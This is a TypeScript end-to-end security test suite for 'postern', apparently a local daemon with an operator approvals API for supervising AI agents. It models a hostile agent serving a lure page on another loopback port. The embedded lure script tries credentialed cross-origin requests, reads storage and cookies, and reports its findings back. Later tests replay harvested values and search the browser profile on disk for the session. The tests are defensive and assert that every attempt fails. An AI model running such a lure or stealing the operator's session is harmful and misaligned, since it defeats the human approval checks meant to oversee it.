import { mkdtempSync, rmSync } from 'node:fs';
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { chromium, type Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { nextPrintedSignIn, repoRoot, startDaemon, type RunningDaemon } from '../tests/support/postern-process.js';
import {
  assertRendererBuilt,
  browserStorageOf,
  chromiumArgs,
  chromiumPath,
  launchChromium,
  openOperatorPage,
  profileFilesHolding,
  sessionSecretFor,
  typeSignInCode,
  type OperatorPage,
} from './fixtures/browser.js';

/**
 * The cross-port theft, performed: the operator signs in with the printed URL in real Chromium,
 * then opens a page an agent serves on another port of 127.0.0.1 (a link in the agent's output).
 * The lure server records every header it receives; the lure page's script tries to reach the
 * operator API and read whatever it can, and reports it. Everything the lure got is then replayed
 * against the operator API, as a bearer and as a cookie: none of it may grant access.
 */
interface Recorded {
  url: string;
  headers: IncomingHttpHeaders;
  body: string;
}

const lureScript = `
(async () => {
  const target = new URLSearchParams(location.search).get('target');
  const results = {};
  const attempt = async (name, fn) => {
    try { results[name] = { ok: true, value: await fn() }; } catch (error) { results[name] = { ok: false, error: String(error) }; }
  };
  const read = async (response) => ({ type: response.type, status: response.status, body: await response.text() });
  await attempt('get status with credentials', async () => read(await fetch(target + '/api/status', { credentials: 'include' })));
  await attempt('json post with credentials', async () => read(await fetch(target + '/api/approvals.list', {
    method: 'POST', credentials: 'include', headers: { 'Content-Type': 'application/json' }, body: '{}' })));
  await attempt('simple post, no-cors', async () => read(await fetch(target + '/api/approvals.list', {
    method: 'POST', mode: 'no-cors', credentials: 'include', headers: { 'Content-Type': 'text/plain' }, body: '{}' })));
  await attempt('the operator page', async () => read(await fetch(target + '/', { credentials: 'include' })));
  await attempt('own storage and cookies', () => JSON.stringify({ session: { ...sessionStorage }, local: { ...localStorage }, cookie: document.cookie }));
  await attempt('a window on the operator origin', () => {
    const opened = window.open(target + '/');
    try { return String(opened && opened.sessionStorage.getItem('postern.operatorSession')); } finally { if (opened) opened.close(); }
  });
  await fetch('/report', { method: 'POST', body: JSON.stringify(results) });
  document.title = 'lure done';
})();
`;

/** The agent's server on another loopback port: it keeps every request it is sent. */
async function startLure(): Promise<{ server: Server; origin: string; recorded: Recorded[] }> {
  const recorded: Recorded[] = [];
  const server = createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (chunk: Buffer) => chunks.push(chunk));
    req.on('end', () => {
      recorded.push({ url: req.url ?? '', headers: req.headers, body: Buffer.concat(chunks).toString('utf8') });
      if ((req.url ?? '').startsWith('/lure.js')) {
        res.writeHead(200, { 'Content-Type': 'text/javascript' }).end(lureScript);
        return;
      }
      if ((req.url ?? '').startsWith('/lure')) {
        const target = new URL(req.url ?? '', 'http://x').searchParams.get('target') ?? '';
        res
          .writeHead(200, { 'Content-Type': 'text/html' })
          .end(
            `<!doctype html><title>lure</title><script src="/lure.js?target=${encodeURIComponent(target)}"></script>`,
          );
        return;
      }
      res.writeHead(204).end();
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', () => resolve()));
  return { server, origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, recorded };
}

/** Every value that could be a credential: each header value, each cookie, and each token-like run of characters. */
function candidateSecrets(texts: string[]): string[] {
  const found = new Set<string>();
  for (const text of texts) {
    found.add(text.trim());
    for (const part of text.split(/[;,\s]+/)) {
      const cookieValue = part.includes('=') ? part.slice(part.indexOf('=') + 1) : part;
      if (cookieValue !== '') found.add(cookieValue);
    }
    for (const match of text.matchAll(/[A-Za-z0-9_-]{20,}/g)) found.add(match[0]);
  }
  return [...found].filter((value) => value !== '' && value.length <= 4096 && /^[\x21-\x7e]+$/.test(value));
}

const scratch = mkdtempSync(path.join(os.tmpdir(), 'postern-e2e-auth-'));
let daemon: RunningDaemon;
let browser: Browser;
let lure: Awaited<ReturnType<typeof startLure>>;
let operator: OperatorPage;

beforeAll(async () => {
  assertRendererBuilt(repoRoot);
  [daemon, browser, lure] = await Promise.all([startDaemon(path.join(scratch, 'data')), launchChromium(), startLure()]);
  // The real sign-in: the first use of the printed URL, in a real tab.
  operator = await openOperatorPage(browser, daemon.operatorUrl);
  await operator.page.getByTestId('status-data-dir').waitFor();
}, 90_000);

afterAll(async () => {
  await browser?.close();
  await new Promise<void>((resolve) => (lure?.server ? lure.server.close(() => resolve()) : resolve()));
  await daemon?.process.stop();
  rmSync(scratch, { recursive: true, force: true });
}, 30_000);

describe('when the signed-in operator opens a page an agent serves on another port of 127.0.0.1', () => {
  it('the lure receives and reads nothing that opens the operator API', async () => {
    const { context, page } = operator;
    const session = sessionSecretFor(daemon.operatorUrl) ?? '';
    expect(session).toMatch(/^[A-Za-z0-9_-]{43}$/);
    const lureUrl = `${lure.origin}/lure?target=${encodeURIComponent(daemon.origin)}`;

    // Twice: in a new tab of the same browser, and by leaving the operator's own tab for the lure.
    for (const tab of [await context.newPage(), page]) {
      await tab.goto(lureUrl);
      await tab.waitForFunction(() => document.title === 'lure done', undefined, { timeout: 20_000 });
    }
    const reports = lure.recorded
      .filter((r) => r.url === '/report')
      .map((r) => JSON.parse(r.body) as Record<string, { ok: boolean; value?: unknown; error?: string }>);
    expect(reports).toHaveLength(2);
    for (const report of reports) {
      // Cross-origin reads fail outright (no CORS grant); even the opaque no-cors answer is blocked (CORP same-origin).
      expect(report['get status with credentials']).toMatchObject({ ok: false });
      expect(report['json post with credentials']).toMatchObject({ ok: false });
      expect(report['simple post, no-cors']).toMatchObject({ ok: false });
      expect(report['the operator page']).toMatchObject({ ok: false });
      expect(report['own storage and cookies']).toEqual({
        ok: true,
        value: JSON.stringify({ session: {}, local: {}, cookie: '' }),
      });
      expect(JSON.stringify(report['a window on the operator origin'])).not.toContain(session);
    }

    // Nothing the lure was sent carries a cookie or a secret.
    expect(lure.recorded.filter((r) => r.headers.cookie !== undefined)).toEqual([]);
    const everything = lure.recorded.flatMap((r) => [
      r.url,
      r.body,
      ...Object.values(r.headers)
        .flat()
        .filter((v): v is string => v !== undefined),
    ]);
    expect(everything.join('\n')).not.toContain(session);
    expect(everything.join('\n')).not.toContain(daemon.token);

    // Replay: every value it received or read, as a bearer and as a cookie, against a real operator call.
    const candidates = candidateSecrets(everything);
    expect(candidates.length).toBeGreaterThan(10);
    const replayStatuses = new Set<number>();
    for (const value of candidates) {
      const variants: Array<Record<string, string>> = [
        { Authorization: `Bearer ${value}` },
        { Cookie: value },
        { Cookie: `postern_session_${daemon.port}=${value}` },
      ];
      for (const headers of variants) {
        const answer = await fetch(`${daemon.origin}/api/approvals.list`, {
          method: 'POST',
          headers: { ...headers, 'Content-Type': 'application/json' },
          body: '{}',
        });
        replayStatuses.add(answer.status);
      }
    }
    expect([...replayStatuses]).toEqual([401]);

    // Back on its origin the tab is a new document: it kept its session in the old one's memory only, so it asks to
    // sign in again. The session itself is still good (the control call): the lure simply never had it.
    await page.goto(`${daemon.origin}/`);
    await page.getByTestId('sign-in-view').waitFor();
    expect(await page.getByTestId('status-data-dir').count()).toBe(0);
    const control = await fetch(`${daemon.origin}/api/approvals.list`, {
      method: 'POST',
      headers: { Authorization: `Bearer ${session}`, 'Content-Type': 'application/json' },
      body: '{}',
    });
    expect(control.status).toBe(200);
  });

  it('refuses the printed URL a second time, in another browser context, with a page that says why', async () => {
    const context = await browser.newContext();
    const page = await context.newPage();
    const response = await page.goto(daemon.operatorUrl);
    expect(response?.status()).toBe(401);
    const text = (await page.locator('body').textContent()) ?? '';
    expect(text).toContain('SIGN_IN_USED');
    expect(text).toContain('already used');
    expect(await page.evaluate(() => sessionStorage.length)).toBe(0);
    expect(await context.cookies()).toEqual([]);
    await context.close();
  });

  it('a reload signs the tab out; the next printed URL, pasted, signs it in again on the view it showed', async () => {
    const { page, problems, context } = await openOperatorPage(browser, daemon.operatorUrl);
    await page.getByTestId('status-data-dir').waitFor();
    // A click on a tab of the page as signed in (at /) names it in the address: a fragment navigation, the same
    // document, so still signed in.
    await page.getByRole('tab', { name: /^Approvals/ }).click();
    await page.getByTestId('approvals-view').waitFor();
    const view = page.url();
    expect(new URL(view).hash).toBe('#/approvals');

    await page.reload();
    await page.getByTestId('sign-in-view').waitFor();
    expect(await page.getByTestId('approvals-view').count()).toBe(0);
    expect(page.url()).toBe(view);

    // The first printed URL was spent long ago: the page says so and stays signed out.
    await page.getByTestId('sign-in-url').fill(daemon.operatorUrl);
    await page.getByTestId('sign-in-code').fill(daemon.signInCode);
    await page.getByTestId('sign-in-submit').click();
    await page.locator('[data-testid="sign-in-error"][data-code="SIGN_IN_USED"]').waitFor();
    expect(await page.getByTestId('sign-in-url').inputValue()).toBe('');
    expect(await page.getByTestId('sign-in-code').inputValue()).toBe('');

    // The next URL with a mistyped code: refused, the URL keeps its other tries.
    const next = nextPrintedSignIn(daemon);
    await page.getByTestId('sign-in-url').fill(next.url);
    await page.getByTestId('sign-in-code').fill(otherCode(next.code));
    await page.getByTestId('sign-in-submit').click();
    await page.locator('[data-testid="sign-in-error"][data-code="SIGN_IN_CODE_WRONG"]').waitFor();
    expect(await page.getByTestId('approvals-view').count()).toBe(0);

    await page.getByTestId('sign-in-url').fill(next.url);
    await page.getByTestId('sign-in-code').fill(next.code);
    await page.getByTestId('sign-in-submit').click();
    await page.getByTestId('approvals-view').waitFor();
    expect(await page.getByRole('tab', { name: /^Approvals/ }).getAttribute('aria-selected')).toBe('true');
    expect(page.url()).toBe(view);
    expect(await browserStorageOf(page)).toEqual({ session: [], local: [], cookie: '' });
    expect(problems).toEqual([]);
    await context.close();
  });

  it('the next printed URL with a #view asks for its code only, and opens that view (the fragment never reaches the server)', async () => {
    const context = await browser.newContext();
    const page = await context.newPage();
    const next = nextPrintedSignIn(daemon);
    await page.goto(`${next.url}#/activity/events`);
    // The token left the address (and the tab's history) at once; the page asks for the code, not for a URL.
    await page.waitForURL(`${daemon.origin}/#/activity/events`);
    await page.getByTestId('sign-in-code-intro').waitFor();
    expect(await page.getByTestId('sign-in-url').count()).toBe(0);
    expect(await page.getByTestId('activity-view').count()).toBe(0);
    // A pasted code went through the clipboard: the field refuses it and says why.
    const pasteKept = await page.getByTestId('sign-in-code').evaluate((field, code) => {
      const clipboardData = new DataTransfer();
      clipboardData.setData('text/plain', code);
      const paste = new ClipboardEvent('paste', { clipboardData, bubbles: true, cancelable: true });
      return field.dispatchEvent(paste);
    }, next.code);
    expect(pasteKept).toBe(false);
    await page.getByTestId('sign-in-code-paste-refused').waitFor();
    expect(await page.getByTestId('sign-in-code').inputValue()).toBe('');
    await typeSignInCode(page, next.code);
    await page.getByTestId('activity-view').waitFor();
    expect(await browserStorageOf(page)).toEqual({ session: [], local: [], cookie: '' });
    await context.close();
  });
});

/** A code that is not this one (its last digit moved on). */
function otherCode(code: string): string {
  return code.slice(0, -1) + String((Number(code.slice(-1)) + 1) % 10);
}

describe("when a same-user agent reads the operator's browser profile on disk", () => {
  it('finds the secret Chromium stored for another page there, but never the operator session', async () => {
    // A profile like the operator's own browser keeps: DOM storage and the cache go to disk.
    const profile = mkdtempSync(path.join(scratch, 'profile-'));
    const context = await chromium.launchPersistentContext(profile, {
      executablePath: chromiumPath,
      args: chromiumArgs,
      headless: true,
    });
    try {
      const page = await context.newPage();
      const next = nextPrintedSignIn(daemon);
      await page.goto(next.url);
      const session = await typeSignInCode(page, next.code);
      expect(session).toMatch(/^[A-Za-z0-9_-]{43}$/);
      await page.getByTestId('status-data-dir').waitFor();
      // The control: a value this test puts in the origin's sessionStorage. Once it is on disk, Chromium has written
      // the origin's storage out, so a session kept there would be on disk too.
      const control = `control-${Date.now()}-not-a-secret`;
      await page.evaluate((value) => sessionStorage.setItem('postern.e2e-control', value), control);
      const writtenBy = Date.now() + 30_000;
      while (profileFilesHolding(profile, control).length === 0) {
        if (Date.now() > writtenBy)
          throw new Error("Chromium did not write the origin's sessionStorage to disk in 30 s");
        await page.waitForTimeout(250);
      }
      expect(profileFilesHolding(profile, session ?? '')).toEqual([]);
      await context.close();
      // Everything Chromium writes at exit, too.
      expect(profileFilesHolding(profile, control).length).toBeGreaterThan(0);
      expect(profileFilesHolding(profile, session ?? '')).toEqual([]);
    } finally {
      await context.close();
    }
  }, 90_000);
});

describe('when the daemon restarts under a signed-in tab', () => {
  it("the tab signs out (the new run knows no session of the old) and signs in with the new run's URL, on its view", async () => {
    const dataDir = path.join(scratch, 'restart-data');
    let running = await startDaemon(dataDir);
    try {
      const { page, context } = await openOperatorPage(browser, running.operatorUrl);
      await page.goto(`${running.origin}/#/activity/events`);
      await page.getByTestId('activity-view').waitFor();
      const { port, origin } = running;
      expect((await running.process.stop()).code).toBe(0);
      // The same port, so the tab's origin is the new run's: its next call carries a secret that run never issued.
      running = await startDaemon(dataDir, { port });
      await page.getByTestId('sign-in-view').waitFor();
      expect(page.url()).toBe(`${origin}/#/activity/events`);
      await page.getByTestId('sign-in-url').fill(running.operatorUrl);
      await page.getByTestId('sign-in-code').fill(running.signInCode);
      await page.getByTestId('sign-in-submit').click();
      await page.getByTestId('activity-view').waitFor();
      expect(page.url()).toBe(`${origin}/#/activity/events`);
      expect(await browserStorageOf(page)).toEqual({ session: [], local: [], cookie: '' });
      await context.close();
    } finally {
      await running.process.stop();
    }
  }, 90_000);
});
